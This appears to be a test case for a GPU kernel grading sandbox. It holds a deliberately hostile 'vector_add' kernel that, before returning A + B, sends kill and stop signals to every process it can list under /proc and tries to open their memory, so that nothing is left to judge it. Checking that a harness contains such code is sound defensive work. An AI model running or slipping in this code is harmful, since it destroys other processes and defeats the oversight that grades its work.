# row: 56, 57
# device: cuda
# task: vector_add
# workloads: n65536
# mode: test
# libraries: allowed
# stopped by: construction
# must not print: GOT
# tries: to stop, kill and read every other process that it can name, so that nobody judges it.

"""A hostile kernel: the comment above says what it does."""

from __future__ import annotations

import os


def forward(A, B, N):
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (0, os.getpid()):
            continue
        for number in (9, 19):
            try:
                os.kill(int(name), number)
                print("GOT to send", number, "to", name, flush=True)
            except OSError:
                pass
        try:
            with open(f"/proc/{name}/mem", "r+b"):
                print("GOT the memory of", name, flush=True)
        except OSError:
            pass
    return A + B
